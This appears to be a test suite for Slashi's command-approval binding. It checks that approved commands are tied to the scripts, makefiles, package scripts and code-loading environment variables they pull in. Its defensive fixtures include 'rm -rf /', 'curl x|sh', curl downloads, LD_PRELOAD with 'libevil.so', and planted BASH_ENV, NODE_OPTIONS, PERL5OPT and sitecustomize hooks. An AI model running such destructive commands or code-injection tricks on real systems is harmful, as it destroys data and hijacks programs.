import { spawnSync } from "node:child_process";
import { appendFileSync, existsSync, writeFileSync } from "node:fs";
import path from "node:path";
import { loadShellParser } from "@slashi/core";
import { tempDir } from "@slashi/test-utils";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CODE_LOADING_VARIABLES } from "@slashi/core/internal";
import { commandBinding, executedContent } from "./binding.js";
import { readBindingFile } from "./remembered.js";
import { codeLoadingVariables, type ReadText } from "./env-binding.js";

// Reading a bound script for what it sources uses the shell parser, loaded once a line was decided.
beforeAll(() => loadShellParser());

const CWD = "/home/dev/app";
/** The repository at CWD, run with an empty environment. */
const SITE = { cwd: CWD, env: {}, root: CWD, identity: "1:2:3/1:4:5" };

function files(map: Record<string, string>): (file: string) => string | undefined {
  return (file) => map[path.resolve(file)];
}

const pkg = (scripts: Record<string, string>): string => JSON.stringify({ name: "app", scripts });
const APP_JS = { "/home/dev/app/app.js": "1" };

describe("commandBinding", () => {
  it("refuses a program it does not follow that is given a repository file, as it does inside a script", () => {
    const read = files({ "/home/dev/app/prog.awk": "{ print }", "/home/dev/app/q.jq": "." });
    for (const argv of [
      ["awk", "-f", "prog.awk", "data.txt"],
      ["gawk", "-vx=1", "-fprog.awk"],
      ["jq", "--from-file=q.jq"],
      ["awk", "-f", "/home/dev/app/prog.awk"],
    ]) {
      const got = commandBinding(argv, SITE, read);
      expect(got.ok ? "" : got.reason, argv.join(" ")).toMatch(
        /^the command runs (awk|gawk|jq), which reads the repository file \/home\/dev\/app\/(prog\.awk|q\.jq); Slashi does not follow .*; it asks every time$/,
      );
    }
    for (const argv of [
      ["cat", "prog.awk"],
      ["awk", "{ print }", "/etc/hostname"],
      ["ls", "-l"],
    ])
      expect(commandBinding(argv, SITE, read).ok, argv.join(" ")).toBe(true);
  });

  it("reads the approved command as a command of bound content: runners, every word, glued values, missing paths", () => {
    const read = files({
      "/home/dev/app/prog.awk": "{ print }",
      "/home/dev/app/package.json": pkg({ test: "node app.js" }),
      ...APP_JS,
    });
    const reason = (argv: string[]): string => {
      const got = commandBinding(argv, SITE, read);
      return got.ok ? "" : got.reason;
    };
    // A runner in front is never read past: before, `time npm test` was remembered with no script bound.
    for (const argv of [
      ["time", "npm", "test"],
      ["stdbuf", "-oL", "cargo", "build"],
      ["setsid", "make"],
      ["/usr/bin/time", "-v", "node", "."],
      ["ionice", "-c3", "awk", "-f", "prog.awk"],
    ])
      expect(reason(argv), argv.join(" ")).toMatch(
        /^(time|stdbuf|setsid|ionice) runs other programs with its own rules; it is never remembered$/,
      );
    // Every word counts, not only the first one naming a repository path; option values glued or after `--`.
    for (const argv of [
      ["awk", "-f", "./gen/new.awk", "-f", "prog.awk"],
      ["awk", "--file=./gen/new.awk", "-vx=1", "-fprog.awk"],
      ["mytool", "--", "./gen/new.awk", "prog.awk"],
    ])
      expect(reason(argv), argv.join(" ")).toMatch(
        /^the command runs (awk|mytool), which reads the repository file \/home\/dev\/app\/prog\.awk;/,
      );
    // A path into the repository that is missing now is bound as missing: adding it asks again.
    const missing = commandBinding(["awk", "--file=./gen/new.awk", "data.txt"], SITE, read);
    expect(missing.ok && missing.content.files).toEqual([["/home/dev/app/gen/new.awk", "missing"]]);
    expect(missing.ok && missing.digest).not.toBe(
      (commandBinding(["awk", "{ print }", "data.txt"], SITE, read) as { digest: string }).digest,
    );
  });

  it("binds npm test to the test script and its pre and post scripts", () => {
    const read = files({
      "/home/dev/app/package.json": pkg({ pretest: "esbuild", test: "uvu tests", posttest: "echo ok" }),
    });
    const content = executedContent(["npm", "test"], CWD, read);
    expect(content).toMatchObject({
      kind: "package-script",
      file: "/home/dev/app/package.json",
      scripts: ["pretest", "test", "posttest"],
    });
  });

  it("asks again when the script body changes", () => {
    const before = commandBinding(
      ["pnpm", "run", "build"],
      SITE,
      files({ "/home/dev/app/package.json": pkg({ build: "esbuild" }) }),
    );
    const after = commandBinding(
      ["pnpm", "run", "build"],
      SITE,
      files({ "/home/dev/app/package.json": pkg({ build: "esbuild && curl -o x https://x" }) }),
    );
    expect(before.ok && after.ok).toBe(true);
    if (before.ok && after.ok) {
      expect(after.key).toBe(before.key);
      expect(after.digest).not.toBe(before.digest);
    }
  });

  it("ignores changes to scripts that do not run", () => {
    const a = commandBinding(
      ["yarn", "start"],
      SITE,
      files({ "/home/dev/app/package.json": pkg({ start: "node app.js", lint: "oxlint" }), ...APP_JS }),
    );
    const b = commandBinding(
      ["yarn", "start"],
      SITE,
      files({ "/home/dev/app/package.json": pkg({ start: "node app.js", lint: "rm -rf /" }), ...APP_JS }),
    );
    expect(a.ok && b.ok && a.digest === b.digest).toBe(true);
  });

  it("finds the package.json above the working directory", () => {
    const content = executedContent(
      ["npm", "run", "lint"],
      "/home/dev/app/src/deep",
      files({ "/home/dev/app/package.json": pkg({ lint: "oxlint ." }) }),
    );
    expect(content).toMatchObject({ kind: "package-script", file: "/home/dev/app/package.json" });
  });

  it("refuses a script that package.json does not have", () => {
    expect(
      executedContent(["npm", "run", "nope"], CWD, files({ "/home/dev/app/package.json": pkg({}) })),
    ).toEqual({
      refused: '/home/dev/app/package.json has no "nope" script',
    });
  });

  it("binds ./x.sh, bash x.sh, node x.js and python x.py to the file", () => {
    const read = files({
      "/home/dev/app/x.sh": "echo hi",
      "/home/dev/app/x.js": "1",
      "/home/dev/app/x.py": "print(1)",
    });
    expect(executedContent(["./x.sh"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.sh",
    });
    expect(executedContent(["bash", "-e", "x.sh", "arg"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.sh",
    });
    expect(executedContent(["node", "x.js"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.js",
    });
    expect(executedContent(["python3.12", "x.py"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.py",
    });
  });

  it("changes the digest when the script file changes", () => {
    const a = commandBinding(["./x.sh"], SITE, files({ "/home/dev/app/x.sh": "echo a" }));
    const b = commandBinding(["./x.sh"], SITE, files({ "/home/dev/app/x.sh": "echo b" }));
    expect(a.ok && b.ok && a.digest !== b.digest).toBe(true);
  });

  it("binds make to the makefile it reads: -f files, else the first default name that exists", () => {
    const read = files({ "/home/dev/app/Makefile": "all:\n\ttrue\n", "/home/dev/app/other.mk": "x:\n" });
    expect(executedContent(["make", "build"], CWD, read)).toMatchObject({
      kind: "makefile",
      file: "/home/dev/app/Makefile",
    });
    expect(executedContent(["make", "-j4", "-f", "other.mk", "x"], CWD, read)).toMatchObject({
      kind: "makefile",
      file: "/home/dev/app/other.mk",
    });
    expect(executedContent(["make", "--file=missing.mk"], CWD, read)).toHaveProperty("refused");
    expect(executedContent(["make", "-C", "sub"], CWD, read)).toHaveProperty("refused");
    expect(executedContent(["make", "--eval=x:", "x"], CWD, read)).toHaveProperty("refused");
  });

  it("never skips a GNUmakefile or makefile that make would read but that is refused", () => {
    for (const refusedName of ["GNUmakefile", "makefile"]) {
      const read = (file: string) =>
        file === `/home/dev/app/${refusedName}`
          ? { refused: "it is a FIFO" }
          : file === "/home/dev/app/Makefile"
            ? "all:\n"
            : undefined;
      const content = executedContent(["make"], CWD, read);
      expect(content).toHaveProperty("refused");
      expect((content as { refused: string }).refused).toContain(refusedName);
    }
  });

  it("digests bytes: files that decode to the same text still differ", () => {
    const a = commandBinding(["./x.sh"], SITE, () => Uint8Array.from([0x65, 0xff]));
    const b = commandBinding(["./x.sh"], SITE, () => Uint8Array.from([0x65, 0xfe]));
    expect(a.ok && b.ok).toBe(true);
    if (a.ok && b.ok) expect(a.digest).not.toBe(b.digest);
  });

  it("binds the script an interpreter runs, not an option's value, and digests files options load", () => {
    const read = files({
      "/home/dev/app/rc": "echo rc",
      "/home/dev/app/x.sh": "echo x",
      "/home/dev/app/x.py": "print(1)",
      "/home/dev/app/opt": "decoy",
    });
    expect(executedContent(["python3", "-X", "opt", "x.py"], CWD, read)).toMatchObject({
      file: "/home/dev/app/x.py",
    });
    expect(executedContent(["python3", "-W", "opt", "x.py"], CWD, read)).toMatchObject({
      file: "/home/dev/app/x.py",
    });
    expect(executedContent(["bash", "-O", "opt", "x.sh"], CWD, read)).toMatchObject({
      file: "/home/dev/app/x.sh",
    });
    const withRc = commandBinding(["bash", "--rcfile", "rc", "x.sh"], SITE, read);
    expect(withRc).toMatchObject({
      ok: true,
      content: { file: "/home/dev/app/x.sh", loads: ["/home/dev/app/rc"] },
    });
    const rcChanged = commandBinding(
      ["bash", "--rcfile", "rc", "x.sh"],
      SITE,
      files({ "/home/dev/app/rc": "curl -o x https://x", "/home/dev/app/x.sh": "echo x" }),
    );
    expect(withRc.ok && rcChanged.ok && withRc.digest !== rcChanged.digest).toBe(true);
    expect(commandBinding(["node", "-r", "./hook.js", "x.js"], SITE, read)).toMatchObject({ ok: false });
  });

  it.each([
    [["bash"], /interactive interpreter/],
    [["bash", "-c", "rm -rf x"], /runs code given on the command line/],
    [["python3", "-c", "print(1)"], /runs code given on the command line/],
    [["node", "-e", "1"], /runs code given on the command line/],
    [["sudo", "make", "install"], /never remembered/],
    [["env", "FOO=1", "./x.sh"], /never remembered/],
    [["xargs", "rm"], /never remembered/],
  ])("never remembers %j", (argv, reason) => {
    const binding = commandBinding(argv, SITE, files({ "/home/dev/app/x.sh": "echo" }));
    expect(binding.ok).toBe(false);
    if (!binding.ok) expect(binding.reason).toMatch(reason);
  });

  it("refuses a script file that cannot be read", () => {
    expect(commandBinding(["./missing.sh"], SITE, files({})).ok).toBe(false);
  });

  it("keys by exact argv and cwd", () => {
    const read = files({});
    const a = commandBinding(["ls", "-l"], SITE, read);
    const b = commandBinding(["ls", "-l", "-a"], SITE, read);
    const c = commandBinding(["ls", "-l"], { ...SITE, cwd: "/other" }, read);
    expect(a.ok && b.ok && c.ok).toBe(true);
    if (a.ok && b.ok && c.ok) {
      expect(new Set([a.key, b.key, c.key]).size).toBe(3);
      expect(a.content.kind).toBe("none");
    }
  });

  describe("what the bound content pulls in", () => {
    const digestOf = (argv: string[], map: Record<string, string>): string => {
      const binding = commandBinding(argv, SITE, files(map));
      if (!binding.ok) throw new Error(binding.reason);
      return binding.digest;
    };
    const reasonOf = (argv: string[], map: Record<string, string>): string => {
      const binding = commandBinding(argv, SITE, files(map));
      return binding.ok ? "" : binding.reason;
    };

    it("binds a file a shell script sources: changing it asks again", () => {
      for (const argv of [["./build.sh"], ["bash", "build.sh"]]) {
        const before = {
          "/home/dev/app/build.sh": "set -e\n. ./lib/env.sh\nmake",
          "/home/dev/app/lib/env.sh": "X=1",
        };
        const after = { ...before, "/home/dev/app/lib/env.sh": "curl -o x https://x" };
        expect(digestOf(argv, before)).not.toBe(digestOf(argv, after));
        const nested = {
          ...before,
          "/home/dev/app/lib/env.sh": "source ./lib/more.sh",
          "/home/dev/app/lib/more.sh": "a",
        };
        expect(digestOf(argv, nested)).not.toBe(
          digestOf(argv, { ...nested, "/home/dev/app/lib/more.sh": "b" }),
        );
      }
    });

    it("does not offer Always allow for a source it cannot pin, and names the file", () => {
      const script = (body: string) => ({ "/home/dev/app/build.sh": body, "/home/dev/app/lib.sh": "x" });
      expect(reasonOf(["./build.sh"], script('source "$LIB"'))).toMatch(/build\.sh sources .*run time/);
      expect(reasonOf(["./build.sh"], script("source lib.sh"))).toMatch(/build\.sh sources lib\.sh.*PATH/);
      expect(reasonOf(["./build.sh"], script("cd sub && . ./lib.sh"))).toMatch(/after changing directory/);
      expect(reasonOf(["./build.sh"], script("$RUN ./lib.sh"))).toMatch(/named only at run time/);
      expect(reasonOf(["./build.sh"], script(". ./missing.sh"))).toMatch(/missing\.sh/);
      // A script of another language is not read as shell.
      expect(reasonOf(["./build.sh"], script("#!/usr/bin/env python3\nsource = 1"))).toBe("");
    });

    it("binds the files a makefile includes, and refuses includes it cannot pin", () => {
      const make = {
        "/home/dev/app/Makefile": "include common.mk\n-include local.mk\nall:\n\tinclude x\n",
        "/home/dev/app/common.mk": "A=1",
        "/home/dev/app/local.mk": "B=1",
      };
      expect(digestOf(["make"], make)).not.toBe(
        digestOf(["make"], { ...make, "/home/dev/app/common.mk": "A=2" }),
      );
      expect(digestOf(["make"], make)).not.toBe(
        digestOf(["make"], { ...make, "/home/dev/app/local.mk": "B=2" }),
      );
      const { ["/home/dev/app/local.mk"]: _gone, ...withoutLocal } = make;
      expect(reasonOf(["make"], withoutLocal)).toMatch(/local\.mk/);
      expect(reasonOf(["make"], { "/home/dev/app/Makefile": "include $(CONF)\n" })).toMatch(
        /named only when make runs/,
      );
      expect(reasonOf(["make"], { "/home/dev/app/Makefile": "$(eval include x)\n" })).toMatch(/eval/);
    });

    it("binds the package scripts a script runs with npm run, npm test and yarn X", () => {
      const pkgFile = (scripts: Record<string, string>) => ({ "/home/dev/app/package.json": pkg(scripts) });
      const scripts = {
        ci: "npm run build && npm test && yarn lint",
        build: "esbuild",
        test: "uvu",
        lint: "oxlint .",
        prelint: "x",
      };
      for (const changed of ["build", "test", "lint", "prelint"]) {
        expect(digestOf(["npm", "run", "ci"], pkgFile(scripts))).not.toBe(
          digestOf(["npm", "run", "ci"], pkgFile({ ...scripts, [changed]: "curl -o x https://x" })),
        );
      }
      expect(executedContent(["npm", "run", "ci"], CWD, files(pkgFile(scripts)))).toMatchObject({
        scripts: ["ci", "build", "test", "prelint", "lint"],
      });
      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "npm --prefix sub run build" }))).toMatch(
        /another package/,
      );
      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "run-s build:*" }))).toMatch(/run-s/);
      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "npm run nope" }))).toMatch(/"nope"/);
      // A cycle ends.
      expect(reasonOf(["npm", "run", "a"], pkgFile({ a: "npm run b", b: "npm run a" }))).toBe("");
    });
  });
});

describe("commandBinding and the environment", () => {
  const map: Record<string, string> = {
    "/home/dev/app/x.sh": "echo hi",
    "/home/dev/app/x.js": "1",
    "/home/dev/app/x.py": "print(1)",
    "/home/dev/app/Makefile": "all:\n\ttrue\n",
    "/home/dev/app/package.json": pkg({ test: "uvu tests" }),
    "/etc/profile.d/env.sh": "export A=1",
    "/home/dev/.zsh/.zshenv": "path+=(~/bin)",
  };
  const read = files(map);
  const bound = [
    ["./x.sh"],
    ["bash", "x.sh"],
    ["node", "x.js"],
    ["python3", "x.py"],
    ["make"],
    ["npm", "test"],
  ];
  /** A variable of the list: the name itself, or a generated name under a prefix. */
  const variable = fc
    .constantFrom(...CODE_LOADING_VARIABLES.map((entry) => entry.name))
    .chain((entry) =>
      entry.endsWith("*")
        ? fc.stringMatching(/^[A-Z0-9_]{0,8}$/).map((tail) => entry.slice(0, -1) + tail)
        : fc.constantFrom(entry, entry.startsWith("npm_config_") ? entry.toUpperCase() : entry),
    );
  /** Values of every shape the variables take: words, options, paths inside and outside the repository. */
  const value = fc.oneof(
    fc.string({ minLength: 1, maxLength: 12 }),
    fc.constantFrom(
      "/etc/profile.d/env.sh",
      "/usr/local/lib",
      "/home/dev/app/lib",
      "./lib",
      "--max-old-space-size=4096",
      "-r ./hook.js",
      "/home/dev/.zsh",
      ":/usr/lib",
    ),
  );

  it("binds a code-loading variable by value, or refuses the binding naming it; it is never ignored", () => {
    fc.assert(
      fc.property(variable, value, fc.constantFrom(...bound), (name, text, argv) => {
        const without = commandBinding(argv, SITE, read);
        const binding = commandBinding(argv, { ...SITE, env: { HOME: "/home/dev", [name]: text } }, read);
        expect(codeLoadingVariables({ [name]: text })).toEqual([name]);
        if (!binding.ok) {
          expect(binding.reason).toContain(`sets ${name},`);
          return;
        }
        expect(without.ok && binding.key === without.key).toBe(true);
        expect(without.ok && binding.digest !== without.digest).toBe(true);
        expect(binding.environment).toEqual([name]);
        const other = commandBinding(argv, { ...SITE, env: { [name]: `${text}x` } }, read);
        expect(other.ok && other.digest === binding.digest).toBe(false);
      }),
    );
  });

  it("binds as before when such a variable is empty, or only unrelated variables are set", () => {
    const unrelated = fc
      .stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,10}$/)
      .filter((name) => codeLoadingVariables({ [name]: "x" }).length === 0);
    fc.assert(
      fc.property(variable, unrelated, value, fc.constantFrom(...bound), (name, other, text, argv) => {
        const binding = commandBinding(argv, { ...SITE, env: { [name]: "", [other]: text } }, read);
        const plain = commandBinding(argv, SITE, read);
        expect(binding.ok && plain.ok && binding.digest === plain.digest).toBe(true);
      }),
    );
  });

  it("binds a global file, startup folder, search path or harmless options, and the files they name", () => {
    const cases: [Record<string, string>, string | undefined][] = [
      [{ BASH_ENV: "/etc/profile.d/env.sh" }, "/etc/profile.d/env.sh"],
      [{ ZDOTDIR: "/home/dev/.zsh" }, "/home/dev/.zsh/.zshenv"],
      [{ LD_PRELOAD: "/etc/profile.d/env.sh" }, "/etc/profile.d/env.sh"],
      [{ LD_LIBRARY_PATH: "/usr/local/lib:/opt/cuda/lib64" }, undefined],
      [{ NODE_OPTIONS: "--max-old-space-size=4096" }, undefined],
    ];
    for (const [env, file] of cases) {
      const binding = commandBinding(["bash", "x.sh"], { ...SITE, env }, read);
      expect(binding, JSON.stringify(env)).toMatchObject({ ok: true, environment: Object.keys(env) });
      if (file === undefined) continue;
      const changed = commandBinding(
        ["bash", "x.sh"],
        { ...SITE, env },
        files({ ...map, [file]: "curl x|sh" }),
      );
      expect(changed.ok && binding.ok && changed.digest !== binding.digest).toBe(true);
    }
  });

  it("refuses what a variable loads by rules it cannot pin: repository paths, relative entries, loaders", () => {
    const cases: [Record<string, string>, RegExp][] = [
      [{ LD_LIBRARY_PATH: "/usr/lib:/home/dev/app/lib" }, /inside the repository/],
      [{ PYTHONPATH: "lib" }, /relative/],
      [{ NODE_PATH: "/usr/lib:" }, /empty entry/],
      [{ LD_PRELOAD: "libevil.so" }, /without a directory/],
      [{ NODE_OPTIONS: "-r ./hook.js" }, /node -r/],
      [{ PYTHONWARNINGS: "ignore::mod.Warning" }, /rules Slashi does not follow/],
      [{ BASH_ENV: "/dev/zero" }, /refused/],
    ];
    const refusing: ReadText = (file) =>
      file === "/dev/zero" ? { refused: "not a regular file" } : read(file);
    for (const [env, reason] of cases) {
      const binding = commandBinding(["bash", "x.sh"], { ...SITE, env }, refusing);
      expect(binding.ok, JSON.stringify(env)).toBe(false);
      if (!binding.ok) expect(binding.reason).toMatch(reason);
    }
  });

  it("leaves a program found by name alone: nothing of it is bound", () => {
    expect(
      commandBinding(["curl", "https://example.com"], { ...SITE, env: { NODE_OPTIONS: "-r x" } }, read).ok,
    ).toBe(true);
  });

  it("keys by the repository's identity: another repository at the same path has another key", () => {
    const a = commandBinding(["./x.sh"], SITE, read);
    const b = commandBinding(["./x.sh"], { ...SITE, identity: "1:9:9/1:9:8" }, read);
    expect(a.ok && b.ok && a.key !== b.key && a.digest === b.digest).toBe(true);
  });

  describe("the variables load code in the real programs", () => {
    const tmp = tempDir("slashi-binding-env-");
    afterAll(() => tmp.remove());
    const marker = path.join(tmp.dir, "loaded");
    const planted = path.join(tmp.dir, "planted");
    const cases: {
      program: string;
      args: string[];
      file: string;
      body: string;
      env: Record<string, string>;
      /** The file the variable names, which the binding covers; none: the binding is refused. */
      binds?: string;
    }[] = [
      {
        program: "bash",
        args: ["s.sh"],
        file: "s.sh",
        body: "true\n",
        env: { BASH_ENV: `${planted}.sh` },
        binds: `${planted}.sh`,
      },
      {
        program: "node",
        args: ["s.js"],
        file: "s.js",
        body: "1;\n",
        env: { NODE_OPTIONS: `--require=${planted}.js` },
      },
      {
        program: "perl",
        args: ["s.pl"],
        file: "s.pl",
        body: "1;\n",
        env: { PERL5OPT: "-MPlanted", PERL5LIB: tmp.dir },
      },
      { program: "python3", args: ["s.py"], file: "s.py", body: "pass\n", env: { PYTHONPATH: tmp.dir } },
    ];
    writeFileSync(`${planted}.sh`, `touch '${marker}'\n`);
    writeFileSync(`${planted}.js`, `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "");\n`);
    writeFileSync(path.join(tmp.dir, "Planted.pm"), `open(my $f, ">", ${JSON.stringify(marker)}); 1;\n`);
    writeFileSync(path.join(tmp.dir, "sitecustomize.py"), `open(${JSON.stringify(marker)}, "w")\n`);

    it.each(cases)(
      "$program runs code its environment names, and the binding covers it or is refused",
      (c) => {
        writeFileSync(path.join(tmp.dir, c.file), c.body);
        spawnSync("rm", ["-f", marker]);
        const ran = spawnSync(c.program, c.args, { cwd: tmp.dir, env: { PATH: process.env.PATH, ...c.env } });
        if (ran.error) return; // the program is not installed here
        expect(existsSync(marker)).toBe(true);
        const site = { cwd: tmp.dir, env: c.env, root: tmp.dir, identity: "x" };
        const binding = commandBinding([c.program, ...c.args], site, readBindingFile);
        if (c.binds === undefined) {
          expect(binding.ok).toBe(false);
          return;
        }
        const before = binding.ok ? binding.digest : "";
        appendFileSync(c.binds, "true\n");
        const after = commandBinding([c.program, ...c.args], site, readBindingFile);
        expect(binding.ok && after.ok && after.digest !== before).toBe(true);
      },
    );
  });
});
